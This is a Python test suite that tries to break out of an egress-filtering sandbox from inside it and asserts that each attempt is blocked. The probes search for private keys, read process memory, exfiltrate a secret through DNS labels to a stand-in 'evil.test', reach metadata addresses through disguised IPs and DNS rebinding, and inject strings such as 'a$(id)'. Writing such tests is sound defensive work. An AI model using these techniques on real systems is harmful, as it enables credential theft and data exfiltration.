#!/usr/bin/env python3
# SPDX-License-Identifier: ISC

"""The battery, parts B to E and H, tried from inside of a real sandbox: keys
and control plane, names, questions, addresses, records.  The verdict is what
leaves, and whom it reaches."""

import os
import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from insidelib import (DNS_ADDRESS, EVIL, EVIL_ADDRESS, GOOD,  # noqa: E402
                       GOOD_ADDRESS, METADATA, OPEN, OURS, WHO, Probe, here,
                       none_of, same, to, world)
from case import Cases  # noqa: E402
from standin_dns import alias, address, reply, static  # noqa: E402
from standin_origin import answer  # noqa: E402

cases = Cases()


# ---- B: control plane and keys ----------------------------------------------

SEARCH = """
        def search(roots, words, limit=4 << 20):
            found = []
            for root in roots:
                for top, dirs, files in os.walk(root):
                    for name in files:
                        path = os.path.join(top, name)
                        try:
                            if not os.path.isfile(path):
                                continue
                            with open(path, "rb") as f:
                                data = f.read(limit)
                        except OSError:
                            continue
                        found += [[path, w] for w in words
                                  if w.encode() in data]
            return found
"""


@cases.each(WHO)
def keys_and_policy(who):
    """The CA's key, the policy, a decider's key and the records: in files, in
    the environment, in what is there of processes, in memory that is shared."""
    user = who.split("-")[0]
    place = here.fresh(user, "secrets")
    key = place / "decider.key"
    key.write_text("KEY-OF-THE-DECIDER\n")
    key.chmod(0o600)
    os.chown(key, place.stat().st_uid, place.stat().st_gid)
    rules = 'allow host "policy-has-this-name.test"\n'
    more = ('decider "guard" webhook { url "https://127.0.0.1:1/" key file '
            f'"{key}" }}\n')
    probe = Probe(who, SEARCH + f"""
        words = ["KEY-OF-THE-DECIDER", "policy-has-this-" "name.test",
                 '"kind":"session_started"']
        roots = ["/etc", "/run", "/tmp", "/var/tmp", "/root", "/home", "/dev",
                 os.environ["HOME"], os.getcwd(), "/proc/self/fd"]
        ours = subprocess.run(["sh", "-c", "ls -d {key} {key.parent} "
                               "/proc/[0-9]*"], capture_output=True,
                              text=True).stdout.split()
        keys = [f for f in search(["/etc/egressd-trust", "/etc/ssl"] + roots,
                                  ["-----BEGIN PRIVATE " "KEY",
                                   "-----BEGIN EC PRIVATE " "KEY"])
                if "egressd" in f[0] or f[0].startswith(("/tmp", "/run"))]
        say([search(roots, words), keys, ours, sorted(
             v for k, v in os.environ.items() if "KEY-OF" in v),
             attempt(os.stat, "{key}") and attempt(os.listdir,
                                                   "{place.parent}")])
    """, rules=rules, more=more)
    found, keys, ours, environment, _ = probe.said
    same([found, keys, environment], [[], [], []])
    assert not any("decider" in path for path in ours), ours


@cases.each(WHO)
def core_and_memory(who):
    """What the processes of the gate hold is not read from within, not by a
    core, a trace, a memory file or a number of a process."""
    probe = Probe(who, """
        libc.prctl(4, 1, 0, 0, 0)
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
        names = []
        for pid in pids:
            with contextlib.suppress(OSError), open(
                    f"/proc/{pid}/cmdline") as f:
                names.append(f.read())
        said = []
        for pid in range(1, 400):
            for file in ("mem", "environ", "root/etc/passwd", "maps"):
                try:
                    with open(f"/proc/{pid}/{file}", "rb") as f:
                        f.read(1)
                    if pid != os.getpid():
                        said.append([pid, file])
                except OSError:
                    pass
        def trace(pid):
            return call(libc.ptrace, 16, pid, 0, 0)
        def fd(pid):
            p = libc.syscall(434, pid, 0)
            return "none" if p < 0 else call(libc.syscall, 438, p, 3, 0)
        say([names, said, trace(1), fd(1)])
    """)
    names, said, trace, descriptor = probe.said
    assert not any("egressd-" in n and "box" not in n for n in names), names
    same(said, [])
    assert trace in ("EPERM", "ENOSYS"), trace
    assert descriptor in ("none", "EPERM", "EBADF", "ENOSYS"), descriptor


@cases.each(WHO)
def control_sockets(who):
    """Ours, by path, by variable, by descriptor and through the gate."""
    user = who.split("-")[0]
    side = here.fresh(user, "side")
    path = side / "egressd.sock"
    probe = Probe(who, f"""
        def unix(path):
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(5)
            s.connect(path)
            s.sendall(b'{{"id":1,"op":"status"}}\\n')
            return s.recv(4096).decode()
        fds = [os.readlink(f"/proc/self/fd/{{f}}")
               for f in os.listdir("/proc/self/fd")
               if os.path.islink(f"/proc/self/fd/{{f}}")]
        ctl = subprocess.run(["{here.ctl}", "-s", "{path}", "status"],
                             capture_output=True, text=True) if \\
            os.path.exists("{here.ctl}") else None
        say([[attempt(unix, p) for p in ("{path}", "/run/egressd.sock",
              "\\0egressd", "\\0/run/egressd.sock",
              "{here.prefix.dir}/run/egressd.sock")],
             os.environ.get("EGRESSD_SOCKET"), fds,
             ctl.returncode if ctl else None,
             [plain(h, 80, get(h)) for h in ("localhost", "{OURS}")]])
    """, options=("-S", side), rules=OPEN)
    unix, variable, fds, ctl, through = probe.said
    assert set(unix) <= {"ENOENT", "ECONNREFUSED"}, unix
    same(variable, None)
    assert not any("socket:" in f for f in fds), fds
    assert ctl in (None, 3), ctl
    none_of(through, [200])
    probe.no_evil()


@cases.each(WHO)
def exposed_control_socket(who):
    """A socket that the sandbox would see is not even made."""
    user, _, root = who.partition("-")
    side = here.fresh(user, "side")
    file, _ = here.conf(user, f'policy "p" {{ default deny }}\n', world.more())
    done = here.run(user, "run", "-q", "-f", file, "-S", side, "-x", side,
                    *(("-r",) if root else ()), "--", "true")
    assert done.returncode == 125, done
    assert "the sandbox would see the control socket" in str(done.stderr), done
    assert not list(pathlib.Path(side).iterdir()), side


@cases.each(WHO)
def another_session(who):
    """Its addresses, its ports and its name are not this one's."""
    user, _, root = who.partition("-")
    rules = ('policy "wide" { default allow }\n'
             'policy "narrow" { allow host "nothing.test" }\n')
    world.outside.sent()
    options = ("-r",) if root else ()
    with here.daemon(user, rules, world.more()):
        other = here.spawn(user, "run", "-q", "-n", "wide-one", "-p", "wide",
                           "--", "sh", "-c", f"getent ahostsv4 {GOOD}; "
                           "read line", stdin=subprocess.PIPE)
        try:
            given = other.stdout.readline().split()[0].decode()
            done = here.run(
                user, "run", "-q", "-n", "narrow-one", "-p", "narrow",
                *options, "--", "sh", "-c",
                f"EGRESSD_SESSION=wide-one curl -s -m 10 -o /dev/null -w "
                f"'%{{http_code}} ' --resolve {GOOD}:80:{given} "
                f"http://{GOOD}/ -H 'Egress-Session: wide-one';"
                f"curl -s -m 10 -o /dev/null -w '%{{http_code}}' "
                f"http://{given}/ -H 'Host: {GOOD}'")
        finally:
            other.communicate(b"\n")
        codes = done.stdout.split()
        assert len(codes) == 2 and set(codes) <= {"403", "421"}, done.stdout
    assert not world.outside.sent()


@cases.each(("user", "user-r"))
def names_with_syntax(who):
    """Newlines, quotes, semicolons and NUL in names end up in records as text,
    and in nothing that is parsed again."""
    probe = Probe(who, r'''
        def question(label):
            return (b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) +
                    label + b"\4evil\4test\0\0\1\0\1")
        odd = [b'a\n{"seq":1}', b'a"; drop', b"a;flush ruleset", b"a\0b",
               b"a$(id)", b"a'b", b"a\x1b[2J", b"\xff\xfe", b"a{b}", b"a b"]
        say([[udp("198.18.0.1", 53, question(o)) for o in odd],
             [plain(EVIL, 80, b"GET /" + b"q HTTP/1.1\r\nHost: " + o +
              b".evil.test\r\n\r\n") for o in odd],
             [plain(EVIL, 80, b"GET /q?" + o.replace(b" ", b"+") +
                    b" HTTP/1.1\r\nHost: evil.test\r\n\r\n") for o in odd],
             plain(GOOD, 80, get(GOOD))])
    ''')
    none_of(probe.said[1] + probe.said[2], [200])
    same(probe.said[3], 200)
    data = probe.log.read_bytes()
    assert not set(data) - {10} & set(range(32)) and b"\x7f" not in data
    probe.no_evil()


# ---- C: names, where every name has an address of its own --------------------

@cases.each(WHO)
def name_and_address(who):
    """The address that was connected to, SNI and Host: any two that differ."""
    before = len(world.tls.got()) + len(world.clear.got())
    probe = Probe(who, f"""
        never = "198.18.77.77"
        say([plain(EVIL, 80, get(GOOD, "/1")),
             plain(GOOD, 80, get(EVIL, "/2")),
             plain("{EVIL_ADDRESS}", 80, get(GOOD, "/3")),
             plain("{GOOD_ADDRESS}", 80, get(GOOD, "/4")),
             plain(never, 80, get(GOOD, "/5")),
             secure(EVIL, 443, get(GOOD, "/6"), GOOD),
             secure(GOOD, 443, get(GOOD, "/7"), EVIL),
             secure(GOOD, 443, get(EVIL, "/8"), GOOD),
             secure("{EVIL_ADDRESS}", 443, get(GOOD, "/9"), GOOD),
             secure(never, 443, get(GOOD, "/10"), GOOD),
             secure("{EVIL_ADDRESS}", 443, get(GOOD, "/11"), None),
             plain("fd65:6772:6573:7364::77", 80, get(GOOD, "/12")),
             plain(GOOD, 80, get(GOOD + ":443", "/13")),
             plain(GOOD, 80, get(GOOD + ".evil.test", "/14")),
             plain(GOOD, 80, get(GOOD, "/ok") + get(EVIL, "/15"))])
    """, rules=f'allow host {{ "{GOOD}", "{EVIL}" }}')
    none_of(probe.said[:-1], [200])
    same(probe.said[-1], 200)
    got = (world.tls.got() + world.clear.got())[before:]
    assert b"evil" not in got, got
    assert probe.has("request_denied", path="/3")[0]["reason"] == \
        "name_mismatch", probe.brief()
    probe.no_evil()


@cases.each(WHO)
def disguised_addresses(who):
    """Spellings of an address that one reader takes for a name and another
    for an address."""
    probe = Probe(who, f"""
        say([[plain(GOOD, 80, get(h)) for h in (
              "0x7f.1", "2130706433", "0177.0.0.1", "127.1", "[::ffff:7f00:1]",
              "0xa9fea9fe", "2852039166", "169.254.43518", "[::1]", "[::]",
              "\\u0661.1.1.1", "\\uff11\\uff12\\uff17.0.0.1", "evil.test\\t",
              "good.test@evil.test", "[evil.test]", "EVIL.test.")],
             [subprocess.run(["curl", "-s", "-m", "10", "-o", "/dev/null",
              "-w", "%{{http_code}}", f"http://{{h}}/"], capture_output=True,
              text=True).stdout for h in ("2130706433", "0x7f.1", "127.1",
              "2852039166", "0xa9fea9fe", "{METADATA}", "[::ffff:a9fe:a9fe]")]
             ])
    """, rules=OPEN)
    none_of(probe.said[0], [200])
    none_of(probe.said[1], ["200"])
    probe.no_evil()


# ---- D: questions -----------------------------------------------------------

DNS = r"""
def question(name, kind=1, ident=0x4242):
    return struct.pack(">6H", ident, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(
        ">BHH", 0, kind, 1)

def over_tcp(host, data):
    try:
        sock = connect(host, 53)
        sock.sendall(struct.pack(">H", len(data)) + data)
        return sock.recv(4096).hex()
    except OSError as e:
        return name(e)
"""


def probe_dns(who, code, **kwargs):
    return Probe(who, DNS + code, **kwargs)


@cases.each(WHO)
def secret_in_a_label(who):
    """To any server, by UDP and TCP, by what else carries questions: it is
    answered here, recorded, and goes nowhere."""
    probe = probe_dns(who, f"""
secret = "c2VjcmV0LW9mLXRoZS1hZ2VudA"
servers = ("{DNS_ADDRESS}", "{EVIL_ADDRESS}", "198.18.0.1", "8.8.8.8",
           "2a00:1::3", "127.0.0.53", "224.0.0.252", "255.255.255.255")
u = [udp(s, 53, question(f"{{secret}}.u{{n}}.evil.test"))
     for n, s in enumerate(servers)]
t = [over_tcp(s, question(f"{{secret}}.t{{n}}.evil.test"))
     for n, s in enumerate(servers[:6])]
o = [udp("224.0.0.251", 5353, question(secret)),
     udp("ff02::fb%lo", 5353, question(secret)),
     udp("224.0.0.252", 5355, question(secret)),
     udp("{EVIL_ADDRESS}", 5353, question(secret)),
     udp("255.255.255.255", 137, question(secret))]
s = [plain("{EVIL_ADDRESS}", 853, b"\\0\\x20" + question(secret)),
     secure("{EVIL_ADDRESS}", 853, b"\\0\\x20" + question(secret), None),
     secure("dns.google", 443, get("dns.google", "/dns-query?dns=" + secret),
            "dns.google"),
     secure("{EVIL_ADDRESS}", 443, get("{EVIL_ADDRESS}", "/dns-query"), None)]
say([u, t, o, s])
""")
    _, _, others, secure = probe.said
    assert all(o.isupper() for o in others), others
    none_of(secure, [200])
    asked = {r["request"]["host"] for r in probe.records
             if r["kind"] == "name_asked"}
    for server in ("u0", "u1", "u2", "u3", "t0", "t1"):
        assert any(f".{server}.evil.test" in h for h in asked), asked
    probe.nothing_left()


@cases.each(("user", "root-r"))
def odd_questions(who):
    """Types that hold text, transfers, and packets that are none: answered
    with nothing, or not at all; and the next one is answered."""
    probe = probe_dns(who, r"""
types = {"TXT": 16, "NULL": 10, "ANY": 255, "HTTPS": 65, "SVCB": 64,
         "AXFR": 252, "IXFR": 251, "MX": 15, "SRV": 33, "KEY": 25,
         "CNAME": 5, "NS": 2, "SOA": 6, "DS": 43}
head = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0)
def answers(hexed):
    return int(hexed[12:16], 16) if len(hexed) >= 16 else hexed
typed = {k: answers(udp("198.18.0.1", 53, question(f"{k}.evil.test", v)))
         for k, v in types.items()}
bad = [head + b"\xc0\x0c\0\1\0\1", head + b"\xc0\x0e\xc0\x0c\0\1\0\1",
       head + b"\x3f" + b"a" * 10, head, head[:5], b"", b"\0" * 600,
       head + b"\1a" * 200 + b"\0\0\1\0\1", os.urandom(512),
       head + b"\x40a\0\0\1\0\1", bytes(65000)]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for data in bad:
    with contextlib.suppress(OSError):
        sock.sendto(data, ("198.18.0.1", 53))
for data in bad:
    with contextlib.suppress(OSError):
        s = connect("198.18.0.1", 53)
        s.sendall(struct.pack(">H", len(data)) + data)
        s.close()
say([typed, answers(udp("198.18.0.1", 53, question("after.test")))])
""")
    typed, after = probe.said
    assert set(typed.values()) == {0}, typed
    same(after, 1)
    probe.nothing_left()


# Names that lead inside, and the answers that do it.
def turned(question, before):
    """Public when it is looked at first, inside when it is used."""
    return reply(question, [address(question.name, (
        GOOD_ADDRESS if before == 0 else METADATA), 0)]
        if question.type == 1 else [])


def aliased(question, _):
    return reply(question, [alias(question.name, "metadata.test"),
                            address("metadata.test", METADATA)]
                 if question.type == 1 else [])


INSIDE = {
    "metadata.google.internal": static(METADATA),
    "metadata.test": static(METADATA),
    "v6.test": static("fd00:ec2::254"),
    "alibaba.test": static("100.100.100.200"),
    "private.test": static("10.0.0.1", "192.168.0.1", "172.16.0.1"),
    "loopback.test": static("127.0.0.1", "::1"),
    "mapped.test": static("::ffff:169.254.169.254"),
    "nat64.test": static("64:ff9b::a9fe:a9fe"),
    "6to4.test": static("2002:a9fe:a9fe::1"),
    "teredo.test": static("2001:0:a9fe:a9fe::1"),
    "mine.test": static(OURS),
    "alias.test": aliased,
    "synthetic.test": static("198.18.0.1"),
    "multicast.test": static("224.0.0.1"),
    "zero.test": static("0.0.0.0"),
}


@cases.each(WHO)
def names_that_lead_inside(who):
    """Their name is allowed; their address is not."""
    world.zone.update(INSIDE)
    probe = Probe(who, f"""
        say([[plain(n, 80, get(n)) for n in {list(INSIDE)}],
             [secure(n, 443, get(n), n) for n in {list(INSIDE)[:3]}]])
    """, rules=OPEN)
    same(set(probe.said[0] + probe.said[1]), {403})
    for name in INSIDE:
        same({r["reason"].split(":")[0]
              for r in probe.has("request_failed", host=name)},
             {"address_refused"}, name)
    assert not any(map(to(METADATA), world.outside.sent()))
    probe.no_evil()


@cases.each(("user", "root-r"))
def rebinding(who):
    """What is checked is what is dialled, each time."""
    world.zone["turn.test"] = turned
    world.zone["mixed.test"] = static(METADATA, GOOD_ADDRESS)
    probe = Probe(who, """
        say([[plain("turn.test", 80, get("turn.test")) for _ in range(4)],
             plain("mixed.test", 80, get("mixed.test"))])
    """, rules=OPEN)
    assert set(probe.said[0]) <= {200, 403}, probe.said
    assert not any(map(to(METADATA), world.outside.sent())), probe.said
    probe.no_evil()


# ---- E: addresses -----------------------------------------------------------

LITERALS = (METADATA, "100.100.100.200", "127.0.0.2", "10.0.0.1", "0.0.0.1",
            "198.18.200.1", "fd00:ec2::254", "64:ff9b::a9fe:a9fe",
            "2002:a9fe:a9fe::1", "::ffff:169.254.169.254", "fe80::1",
            "64:ff9b:1::a9fe:a9fe", "2001:0:1::1")


@cases.each(WHO)
def literal_addresses(who):
    """Everything is allowed, but not what is inside."""
    probe = Probe(who, f"""
        def host(a):
            return f"[{{a}}]" if ":" in a else a
        say([[plain(a, 80, get(host(a))) for a in {LITERALS}],
             [secure(a, 443, get(host(a)), None) for a in {LITERALS}],
             plain(GOOD, 80, get(GOOD))])
    """, rules=OPEN + "allow host \"169.254.169.254\" to private\n")
    none_of(probe.said[0] + probe.said[1], [200])
    same(probe.said[2], 200)
    same({r["reason"] for r in probe.has("request_failed", host=METADATA)},
         {f"address_refused: metadata address {METADATA} (never dialled)"})
    assert not any(map(to(METADATA), world.outside.sent()))
    probe.no_evil()


@cases.each(("user", "root-r"))
def redirected(who):
    """From an allowed host to another: a new request like any other."""
    world.serve = answer(b"", b"302 Found", b"Location: http://evil.test/x\r\n"
                         b"Refresh: 0; url=http://evil.test/y\r\n"
                         b"Alt-Svc: h3=\"evil.test:443\"\r\n")
    try:
        probe = Probe(who, """
            def curl(*args):
                return subprocess.run(
                    ["curl", "-s", "-L", "-m", "10", "-w", " %{http_code}",
                     *args], capture_output=True, text=True).stdout
            say([curl("http://api.good.test/"),
                 curl("--location-trusted", "-u", "a:secret",
                      "https://api.good.test/")])
        """)
    finally:
        world.serve = answer()
    assert all(s.endswith(" 403") for s in probe.said), probe.said
    same(len(probe.has("request_denied", host=EVIL)), 2)
    assert "secret" not in probe.log.read_text()
    probe.no_evil()


# ---- H: records -------------------------------------------------------------

@cases.each(WHO)
def secrets_of_requests(who):
    """What a policy redacts is redacted in the sessions of sandboxes too, in
    the request that is allowed, denied or for a wrong name."""
    probe = Probe(who, """
        def ask(host, path):
            return (f"GET {path}?a=1&token=sesame-1 HTTP/1.1\\r\\nHost: {host}"
                    "\\r\\nAuthorization: Bearer sesame-2\\r\\n"
                    "X-Tenant: sesame-3\\r\\nCookie: a=sesame-4\\r\\n\\r\\n"
                    ).encode()
        say([plain(GOOD, 80, ask(GOOD, "/1")), plain(EVIL, 80, ask(EVIL, "/2")),
             plain(GOOD, 80, ask(EVIL, "/3")),
             secure(GOOD, 443, ask(GOOD, "/4"), GOOD)])
    """, rules=f'allow host "{GOOD}" '
        "capture redact { header x-tenant, query token }")
    same(probe.said, [200, 403, 421, 200])
    text = probe.log.read_text()
    assert "sesame" not in text, text[text.find("sesame") - 200:][:300]
    assert text.count("token=[redacted]") >= 8, text


@cases.each(("user", "root"))
def secrets_after_a_reload(who):
    """A sandbox that lives on under a new generation is redacted by it."""
    rules = ('policy "p" { default allow capture redact { query token } }\n')
    script = (f"read line; curl -s -m 10 -o /dev/null http://{GOOD}/$line;"
              "echo done;") * 3
    with here.daemon(who, rules, world.more()) as daemon:
        process = here.spawn(who, "run", "-q", "--", "sh", "-c", script,
                             stdin=subprocess.PIPE)
        try:
            for number, name in enumerate(("token", "token", "other")):
                text = daemon.conf.read_text()
                daemon.conf.write_text(text.replace(
                    "query token }", f"query {name} }}"))
                if number:
                    assert here.ask(who, "reload", daemon.socket)["ok"]
                process.stdin.write(f"x?{name}=sesame-{number}\n".encode())
                process.stdin.flush()
                assert process.stdout.readline() == b"done\n"
        finally:
            process.communicate()
        here.ask(who, "status", daemon.socket)
        text = daemon.audit.read_text()
    assert text.count("=[redacted]") >= 9, text
    assert "sesame" not in text, text[text.find("sesame") - 200:][:300]


cases.main()
